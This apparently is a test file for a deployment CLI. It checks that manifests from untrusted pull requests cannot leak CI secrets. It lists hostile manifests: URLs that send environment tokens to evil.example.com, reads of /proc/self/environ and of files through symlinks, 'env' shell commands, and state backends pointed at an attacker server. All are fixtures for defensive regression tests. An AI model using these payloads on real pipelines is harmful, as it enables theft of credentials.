@@ -1,0 +1,337 @@
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { embeddedApiKey } from "../../src/emulator/emulator";
+import { type Canary, canary, sightings } from "../support/canaries";
+import { approve, openScenario, type Scenario } from "../support/cli";
+
+/** What the job holds, and no manifest of a stranger may learn. */
+const held: Readonly<Record<string, Canary>> = {
+  RNV_API_KEY: { name: "api key", core: "cnryapikey9x", value: "rnv_cnryapikey9x" },
+  RNV_STATE_HTTP_PASSWORD: canary("password"),
+  RNV_WEBHOOK_SECRET: canary("webhook"),
+  AWS_ACCESS_KEY_ID: canary("aws id"),
+  AWS_SECRET_ACCESS_KEY: canary("aws key"),
+  AWS_SESSION_TOKEN: canary("aws token"),
+  GITHUB_TOKEN: canary("github"),
+  SHOP_TOKEN: canary("shop"),
+  DEPLOY_TARGET: canary("harmless name"),
+  TF_VAR_target: canary("variable of a stack"),
+};
+const outsideFile = canary("file outside");
+const canaries = [...Object.values(held), outsideFile];
+
+interface Attack {
+  readonly files: Readonly<Record<string, string>>;
+  /** Links by their name: to a file outside of the project. */
+  readonly links?: readonly string[];
+  readonly flags?: readonly string[];
+  /** What stops it, as it is shown. */
+  readonly stopped: string;
+}
+
+const project = (service: string, more = "") =>
+  `projects:\n  shop:\n    services:\n      api:\n        kind: web\n${service}${more}`;
+const repository = (text: string) => project(`        configuration: { repository: "${text}" }\n`);
+const variable = (value: string, more = "") => project(`        variables: { A: ${value} }\n`, more);
+const stage = (settings: string) =>
+  `stages: { production: { ${settings} } }\n${repository("https://git.example.com/a")}`;
+const inStage = ["--stage", "production"];
+const stack = (body: unknown) => ({
+  "cdk.tf.json": JSON.stringify({
+    terraform: { required_providers: { rnv: { source: "rnv/rnv" } } },
+    provider: { rnv: [{}] },
+    ...(body as object),
+  }),
+});
+
+/** `SERVER` is a server of the attacker, `OUTSIDE` the folder outside. */
+const attacks: Readonly<Record<string, Attack>> = {
+  "our key in a repository's address": {
+    files: { "rnv.yaml": repository("https://evil.example.com/${env.RNV_API_KEY}") },
+    stopped: "rnv.yaml:6:64",
+  },
+  "a token of the job in a repository's address": {
+    files: { "rnv.yaml": repository("https://evil.example.com/${env.GITHUB_TOKEN}") },
+    stopped: "error[guard.untrusted]: GITHUB_TOKEN is not read",
+  },
+  "a value behind a harmless name": {
+    files: { "rnv.yaml": repository("https://evil.example.com/${env.DEPLOY_TARGET:-x}") },
+    stopped: "error[guard.untrusted]: DEPLOY_TARGET is not read",
+  },
+  "a secret as the value of a variable": {
+    files: { "rnv.yaml": variable("{ fromEnv: SHOP_TOKEN }") },
+    stopped: "rnv.yaml:6:36",
+  },
+  "what signs a webhook": {
+    files: { "rnv.yaml": variable("{ fromEnv: RNV_WEBHOOK_SECRET }") },
+    stopped: "RNV_WEBHOOK_SECRET is a credential of rnv",
+  },
+  "the password of the state": {
+    files: { "rnv.yaml": variable("{ fromEnv: RNV_STATE_HTTP_PASSWORD }") },
+    stopped: "RNV_STATE_HTTP_PASSWORD is a credential of rnv",
+  },
+  "a file outside": {
+    files: { "rnv.yaml": variable("{ fromFile: OUTSIDE/secret.txt }") },
+    stopped: "lies outside the project folder, and --untrusted forbids to read it",
+  },
+  "the environment as a file": {
+    files: { "rnv.yaml": variable("{ fromFile: /proc/self/environ }") },
+    stopped: "lies outside the project folder, and --untrusted forbids to read it",
+  },
+  "a file outside by a link": {
+    files: { "rnv.yaml": variable("{ fromFile: link.txt }") },
+    links: ["link.txt"],
+    stopped: "lies outside the project folder, and --untrusted forbids to read it",
+  },
+  "a command": {
+    files: { "rnv.yaml": variable("{ fromCommand: [sh, -c, 'env | tee stolen'], env: [SHOP_TOKEN] }") },
+    stopped: 'the command "sh" is not run: --untrusted forbids it',
+  },
+  "a command behind an anchor of a free key": {
+    files: {
+      "rnv.yaml": `x-hidden: &hidden { fromCommand: [sh, -c, env] }\n${variable("*hidden")}`,
+    },
+    stopped: "error[guard.untrusted]",
+  },
+  "a secret in a group that services share": {
+    files: {
+      "rnv.yaml": `variableGroups: { all: { A: { fromEnv: SHOP_TOKEN } } }\n${project("        variablesFrom: [{ group: all }]\n")}`,
+    },
+    stopped: "rnv.yaml:1:40",
+  },
+  "a dotenv file outside": {
+    files: { "rnv.yaml": project("        variablesFrom: [{ dotenv: OUTSIDE/.env }]\n") },
+    stopped: "lies outside the project folder",
+  },
+  "a dotenv file outside by a link": {
+    files: { "rnv.yaml": project("        variablesFrom: [{ dotenv: .env }]\n") },
+    links: [".env"],
+    stopped: 'the dotenv file ".env" lies outside the project folder',
+  },
+  "an overlay outside": {
+    files: { "rnv.yaml": stage("overlay: OUTSIDE/overlay.yaml") },
+    flags: inStage,
+    stopped: "lies outside the project folder",
+  },
+  "an overlay outside by a link": {
+    files: { "rnv.yaml": stage("overlay: overlay.yaml") },
+    links: ["overlay.yaml"],
+    flags: inStage,
+    stopped: "overlay of stage production lies outside the project folder",
+  },
+  "a manifest that is a link out": {
+    files: {},
+    links: ["rnv.yaml"],
+    stopped: "rnv.yaml is a link out of the project folder",
+  },
+  "a state at the attacker's server": {
+    files: { "rnv.yaml": stage('state: "SERVER/${stage.name}"') },
+    flags: inStage,
+    stopped: "error[guard.untrusted]: the state of stage production is elsewhere",
+  },
+  "a state in a bucket at the attacker's endpoint": {
+    files: { "rnv.yaml": stage('state: "s3://rnv-state/a.json?region=eu-central-1&endpoint=SERVER"') },
+    flags: inStage,
+    stopped: "rnv.yaml:1:32",
+  },
+  "a state that is a file outside": {
+    files: { "rnv.yaml": stage("state: OUTSIDE/secret.txt") },
+    flags: inStage,
+    stopped: "error[guard.untrusted]: the state of stage production is elsewhere",
+  },
+  "a state that is a file outside by a link": {
+    files: { "rnv.yaml": stage("state: state.json") },
+    links: ["state.json"],
+    flags: inStage,
+    stopped: "error[guard.untrusted]: the state of stage production is elsewhere",
+  },
+  "the default state as a link": {
+    files: { "rnv.yaml": repository("https://git.example.com/a") },
+    links: [".rnv/state.json"],
+    stopped: "state.unreadable",
+  },
+  "a secret in the address of a state": {
+    files: { "rnv.yaml": stage('state: "SERVER/${env.SHOP_TOKEN}"') },
+    flags: inStage,
+    stopped: "error[guard.untrusted]: SHOP_TOKEN is not read",
+  },
+  "a secret by a reference": {
+    files: {
+      "rnv.yaml": project(
+        "        variables: { A: { fromEnv: SHOP_TOKEN } }\n",
+        '      web:\n        kind: web\n        configuration: { repository: "https://evil.example.com/${variable.shop.api.A.value}" }\n',
+      ),
+    },
+    stopped: "error[manifest.unsupported]: a secret can be referred to from a secret only",
+  },
+  "a secret in an output": {
+    files: {
+      "rnv.yaml": `${repository("https://git.example.com/a")}outputs: { a: "\${env.DEPLOY_TARGET}" }\n`,
+    },
+    stopped: "error[guard.untrusted]: DEPLOY_TARGET is not read",
+  },
+  "a program of constructs": {
+    files: { "cdktf.json": JSON.stringify({ app: "env > stolen", language: "typescript" }) },
+    stopped: "of cdktf.json is not run: --untrusted forbids it",
+  },
+  "a variable of a stack in a repository's address": {
+    files: stack({
+      variable: { target: { type: "string" } },
+      resource: {
+        rnv_service: {
+          api: {
+            name: "api",
+            kind: "web",
+            configuration: { repository: "https://evil.example.com/${var.target}" },
+          },
+        },
+      },
+    }),
+    flags: ["-f", "cdk.tf.json"],
+    stopped: "TF_VAR_target is not read for a manifest that is not trusted",
+  },
+  "accepted drift that is a link out": {
+    files: { "rnv.yaml": repository("https://git.example.com/a") },
+    links: ["rnv.drift.yaml"],
+    stopped: "",
+  },
+};
+
+describe("a manifest of a stranger", () => {
+  let scenario: Scenario;
+  let outside: string;
+  let server: ReturnType<typeof createServer>;
+  let url = "";
+  /** What reached the attacker's server. */
+  const received: string[] = [];
+  const event = () => join(outside, "event.json");
+  /** How the job says that it is one of a stranger. */
+  const jobs = (): Readonly<Record<string, Readonly<Record<string, string>>>> => ({
+    GitHub: { GITHUB_ACTIONS: "true", GITHUB_EVENT_NAME: "pull_request_target", GITHUB_EVENT_PATH: event() },
+    GitLab: { GITLAB_CI: "true", CI_PROJECT_ID: "1", CI_MERGE_REQUEST_SOURCE_PROJECT_ID: "2" },
+    "the flag": { RNV_UNTRUSTED: "1" },
+  });
+  const secrets = Object.fromEntries(
+    Object.entries(held).map(([name, { value }]) => [name, value.replaceAll("\n", "")]),
+  );
+  beforeAll(async () => {
+    outside = mkdtempSync(join(tmpdir(), "rnv-outside-"));
+    writeFileSync(join(outside, "secret.txt"), `${outsideFile.core}\n`);
+    writeFileSync(join(outside, ".env"), `A=${outsideFile.core}\n`);
+    writeFileSync(join(outside, "overlay.yaml"), `outputs: { a: ${outsideFile.core} }\n`);
+    const from = (name: string) => ({ repo: { full_name: name } });
+    writeFileSync(
+      event(),
+      JSON.stringify({ pull_request: { head: from("stranger/shop"), base: from("acme/shop") } }),
+    );
+    server = createServer((request, response) => {
+      let body = "";
+      request.on("data", (part) => (body += part));
+      request.on("end", () => {
+        received.push(`${request.method} ${request.url} ${JSON.stringify(request.rawHeaders)} ${body}`);
+        response.writeHead(404).end();
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  });
+  afterAll(async () => {
+    await new Promise((resolve) => server.close(resolve));
+    rmSync(outside, { recursive: true, force: true });
+  });
+  beforeEach(async () => {
+    scenario = await openScenario({
+      apiKeys: [
+        { key: secrets.RNV_API_KEY as string, scope: "write", role: "owner" },
+        { key: embeddedApiKey, scope: "write", role: "owner" },
+      ],
+    });
+    received.length = 0;
+  });
+  afterEach(() => scenario.close());
+
+  const lay = ({ files, links = [] }: Attack) => {
+    for (const [name, text] of Object.entries(files))
+      scenario.write(name, text.replaceAll("OUTSIDE", outside).replaceAll("SERVER", url));
+    for (const name of links) {
+      mkdirSync(dirname(join(scenario.folder, name)), { recursive: true });
+      const target = name.endsWith(".yaml") ? "overlay.yaml" : name === ".env" ? ".env" : "secret.txt";
+      symlinkSync(join(outside, target), join(scenario.folder, name));
+    }
+  };
+  const verbs = [
+    ["plan"],
+    ["plan", "--no-secrets", "-json"],
+    ["plan", "-out", "p.rnvplan", "--format", "markdown"],
+    ["validate"],
+    ["validate", "-print"],
+    ["graph"],
+    ["drift"],
+    ["ci", "drift", "--report", "drift", "--metrics", "rnv.prom"],
+    ["apply", ...approve],
+    ["destroy", ...approve],
+  ];
+
+  it.each(Object.entries(attacks))(
+    "%s: not one byte leaves, and it is said what was refused",
+    async (_, attack) => {
+      lay(attack);
+      const inputs = new Set(
+        [...Object.keys(attack.files), ...(attack.links ?? [])].map((name) => join(scenario.folder, name)),
+      );
+      for (const [name, job] of Object.entries(jobs())) {
+        scenario.forget();
+        const env = { ...secrets, RNV_STATE_HTTP_USERNAME: "ci", ...job };
+        const { code, stdout, stderr } = await scenario.runWith({ env }, "plan", ...(attack.flags ?? []));
+        if (attack.stopped !== "") {
+          expect([name, `${stdout}${stderr}`]).toEqual([name, expect.stringContaining(attack.stopped)]);
+          expect(code).toBeGreaterThan(0);
+        }
+      }
+      const env = { ...secrets, ...jobs().GitHub };
+      const shown: string[] = [];
+      for (const words of verbs) {
+        const ended = await scenario.runWith({ env }, ...words, ...(attack.flags ?? []));
+        shown.push(...sightings(canaries, words.join(" "), `${ended.stdout}\n${ended.stderr}`));
+      }
+      for (const { path } of scenario.files())
+        if (!inputs.has(path)) shown.push(...sightings(canaries, path, readFileSync(path, "latin1")));
+      for (const request of scenario.sent)
+        shown.push(...sightings(canaries, request.path, JSON.stringify(request.body ?? "")));
+      expect(shown).toEqual([]);
+      expect(received).toEqual([]);
+      expect(scenario.files().map(({ path }) => path)).not.toContain(join(scenario.folder, "stolen"));
+    },
+  );
+
+  it("what a job allows is read: a name of the environment, and the address of a state", async () => {
+    lay({ files: { "rnv.yaml": stage(`state: "${url}/state/\${stage.name}"`) }, stopped: "" });
+    const env = { ...secrets, ...jobs().GitHub, RNV_ALLOW_STATE: `${url}/other/*, ${url}/state/*` };
+    const { stderr } = await scenario.runWith({ env }, "plan", ...inStage);
+    expect(stderr).not.toContain("guard.untrusted");
+    expect(received.join()).toContain("GET /state/production");
+    for (const RNV_ALLOW_STATE of [`${url}/stat*`, `${url}*`, "*", `${url}/state`])
+      expect(await scenario.runWith({ env: { ...env, RNV_ALLOW_STATE } }, "plan", ...inStage)).toMatchObject({
+        code: 4,
+        stderr: expect.stringContaining("list it in RNV_ALLOW_STATE"),
+      });
+    scenario.write("rnv.yaml", repository("https://git.example.com/${env.DEPLOY_TARGET}"));
+    const named = { ...env, DEPLOY_TARGET: "eu", RNV_ALLOW_ENV: "DEPLOY_*" };
+    expect(await scenario.runWith({ env: named }, "plan")).toMatchObject({ code: 0 });
+  });
+
+  it("a converter writes names, and reads neither their values nor other files", async () => {
+    scenario.write(
+      "compose.yaml",
+      `services:\n  api:\n    image: a\n    env_file: ${outside}/.env\n    environment: { A: "\${SHOP_TOKEN}", B: "\${DEPLOY_TARGET}" }\n`,
+    );
+    const env = { ...secrets, ...jobs().GitHub };
+    const ended = await scenario.runWith({ env }, "init", "--from", "compose", "compose.yaml");
+    const texts = [ended.stdout, ended.stderr, ...scenario.files().map(({ text }) => text)].join("\n");
+    expect(sightings(canaries, "init", texts)).toEqual([]);
+    expect(ended.code).toBe(0);
+  });
+});
